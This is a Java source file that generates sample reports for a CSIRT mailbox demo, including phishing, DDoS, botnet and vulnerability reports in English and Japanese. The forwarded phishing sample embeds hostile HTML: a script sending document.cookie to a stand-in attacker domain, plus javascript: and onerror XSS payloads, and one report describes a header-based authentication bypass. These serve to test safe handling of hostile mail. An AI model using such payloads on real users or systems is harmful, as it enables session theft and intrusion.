package org.csirtgateway.cli;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.Date;
import java.util.List;
import java.util.Properties;

import jakarta.mail.Message;
import jakarta.mail.MessagingException;
import jakarta.mail.Session;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeBodyPart;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;

/**
 * The demo's sample reports: what a CSIRT's mailbox holds on an ordinary day. English and Japanese reports, a
 * forwarded phishing mail as message/rfc822 (with hostile HTML), a log attachment, an exact duplicate, a reply to an
 * earlier report, and robots that must not be acknowledged.
 */
final class DemoReports {

    private final Session session = Session.getInstance(new Properties());
    private final String teamAddress;
    private final Instant now;

    DemoReports(String teamAddress, Instant now) {
        this.teamAddress = teamAddress;
        this.now = now;
    }

    List<MimeMessage> all() throws MessagingException {
        List<MimeMessage> reports = new ArrayList<>();
        MimeMessage phishing = text("abuse@bank.example", "Bank Abuse Desk",
                "Phishing site imitating Example Bank login",
                """
                Hello CSIRT team,

                we found a phishing page imitating our online banking login, hosted in your constituency:

                  hxxps://login-examplebank[.]com/secure/
                  IP: 192.0.2.45

                It has been collecting customer credentials since this morning. Please take it down.

                Regards,
                Example Bank Abuse Desk""", "phish-1@bank.example", "en");
        reports.add(phishing);

        MimeMessage japanese = text("tanaka@isp.example.jp", "田中 一郎", "不正アクセスの報告",
                """
                CSIRT ご担当者様

                お世話になっております。ISP のセキュリティ担当の田中です。
                本日 03:12 頃より、弊社のメールサーバーに対する不正アクセスを確認いたしました。
                送信元 IP アドレスは 198.51.100.23 で、パスワードリスト攻撃と思われます。

                ご確認のほど、よろしくお願いいたします。""", "jp-report-1@isp.example.jp", "ISO-2022-JP");
        reports.add(japanese);

        reports.add(forwardedPhishing());
        reports.add(text("noc@hosting.example", "Hosting NOC", "DDoS attack from your network against 203.0.113.80",
                """
                Our customer at 203.0.113.80 is under a UDP amplification attack since 10:05 UTC.
                Top sources in your networks: 192.0.2.17, 192.0.2.18 (NTP monlist responses).
                Peak 4.2 Gbit/s. Please ask the operators to disable monlist.""", "ddos-7731@hosting.example", "en"));
        reports.add(withLog());
        reports.add(text("researcher@mail.example", "Sam Researcher",
                "Vulnerability report: authentication bypass in portal.example.org",
                """
                Hi,

                I found an authentication bypass (similar to CVE-2024-3400) in portal.example.org: sending the
                header X-Forwarded-User: admin grants an administrator session. I have not accessed any data.
                I follow coordinated disclosure and will wait 90 days.

                Sam""", "vuln-42@mail.example", "en"));

        // The same phishing report again, byte for byte: a duplicate, not a new ticket.
        reports.add(new MimeMessage(phishing));

        // The Japanese reporter follows up, replying to their own report (no ticket tag in the subject).
        MimeMessage reply = text("tanaka@isp.example.jp", "田中 一郎", "Re: 不正アクセスの報告",
                """
                続報です。攻撃は 05:40 に停止しました。ログを添付できますので必要であればお知らせください。""",
                "jp-report-2@isp.example.jp", "ISO-2022-JP");
        reply.setHeader("In-Reply-To", "<jp-report-1@isp.example.jp>");
        reply.setHeader("References", "<jp-report-1@isp.example.jp>");
        reports.add(reply);

        MimeMessage outOfOffice = text("vacation@partner.example", "Partner CERT",
                "Automatic reply: out of office", "I am out of the office until Monday.", "ooo-1@partner.example",
                "en");
        outOfOffice.setHeader("Auto-Submitted", "auto-replied");
        reports.add(outOfOffice);

        MimeMessage newsletter = text("news@vendor.example", "Vendor Security Newsletter",
                "Monthly security newsletter", "This month: patch Tuesday summary and webinar invitations.",
                "news-2026-11@vendor.example", "en");
        newsletter.setHeader("Precedence", "bulk");
        newsletter.setHeader("List-Id", "<security-news.vendor.example>");
        reports.add(newsletter);
        return reports;
    }

    private MimeMessage text(String from, String name, String subject, String body, String messageId,
                             String charset) throws MessagingException {
        MimeMessage message = message(messageId);
        message.setFrom(address(from, name));
        message.setRecipient(Message.RecipientType.TO, address(teamAddress, null));
        message.setSubject(subject, charset.equals("en") ? "UTF-8" : charset);
        message.setText(body, charset.equals("en") ? "UTF-8" : charset);
        message.saveChanges();
        return message;
    }

    private MimeMessage forwardedPhishing() throws MessagingException {
        MimeMessage evidence = message("evil-20261126@paypa1-security.example");
        evidence.setFrom(address("security@paypa1-security.example", "PayPal Security"));
        evidence.setRecipient(Message.RecipientType.TO, address("victim@constituency.example", null));
        evidence.setSubject("Your account has been limited", "UTF-8");
        evidence.setContent("""
                <html><body><script>document.location='https://paypa1-security.example/steal?c='+document.cookie</script>
                <p>Dear customer, your account has been <b>limited</b>.</p>
                <p><a href="javascript:alert(1)" onclick="alert(2)">Restore access now</a></p>
                <img src="https://tracker.paypa1-security.example/open.gif" onerror="alert(3)">
                </body></html>""", "text/html; charset=UTF-8");
        evidence.saveChanges();

        MimeMessage forward = message("fwd-991@constituency.example");
        forward.setFrom(address("victim@constituency.example", "Vic Tim"));
        forward.setRecipient(Message.RecipientType.TO, address(teamAddress, null));
        forward.setSubject("Fwd: Your account has been limited", "UTF-8");
        MimeBodyPart note = new MimeBodyPart();
        note.setText("I received this mail and I think it is phishing. I did not click the link.\n", "UTF-8");
        MimeBodyPart attached = new MimeBodyPart();
        attached.setContent(evidence, "message/rfc822");
        attached.setDisposition("attachment");
        forward.setContent(new MimeMultipart(note, attached));
        forward.saveChanges();
        return forward;
    }

    private MimeMessage withLog() throws MessagingException {
        MimeMessage message = message("bot-5512@cert.example");
        message.setFrom(address("incidents@cert.example", "Partner CERT"));
        message.setRecipient(Message.RecipientType.TO, address(teamAddress, null));
        message.setSubject("Botnet C2 contacts from 192.0.2.99", "UTF-8");
        MimeBodyPart note = new MimeBodyPart();
        note.setText("""
                Dear colleagues,

                our sinkhole recorded connections from 192.0.2.99 (in your constituency) to a known Emotet command
                and control server. Sinkhole log attached. TLP:AMBER.

                Partner CERT incident desk""", "UTF-8");
        MimeBodyPart log = new MimeBodyPart();
        log.setText("2026-11-26T06:01:12Z 192.0.2.99:51234 -> 198.51.100.200:8080 emotet-c2\n"
                + "2026-11-26T06:11:12Z 192.0.2.99:51300 -> 198.51.100.200:8080 emotet-c2\n", "UTF-8");
        log.setFileName("sinkhole.log");
        log.setDisposition("attachment");
        message.setContent(new MimeMultipart(note, log));
        message.saveChanges();
        return message;
    }

    private MimeMessage message(String messageId) throws MessagingException {
        MimeMessage message = new MimeMessage(session) {
            @Override
            protected void updateMessageID() throws MessagingException {
                setHeader("Message-ID", "<" + messageId + ">");
            }
        };
        message.setSentDate(Date.from(now.minus(5, ChronoUnit.MINUTES)));
        return message;
    }

    private static InternetAddress address(String address, String name) throws MessagingException {
        try {
            return name == null ? new InternetAddress(address, true)
                    : new InternetAddress(address, name, StandardCharsets.UTF_8.name());
        } catch (java.io.UnsupportedEncodingException e) {
            throw new MessagingException("cannot encode " + name, e);
        }
    }
}
